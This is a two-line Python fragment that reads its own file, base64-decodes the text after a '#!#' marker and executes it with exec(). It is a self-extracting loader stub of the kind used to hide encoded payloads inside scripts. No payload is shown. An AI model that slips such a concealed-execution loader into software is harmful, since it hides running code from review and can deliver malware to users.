data = open(__file__).read().split("#!#")[1]
exec(base64.b64decode(data))
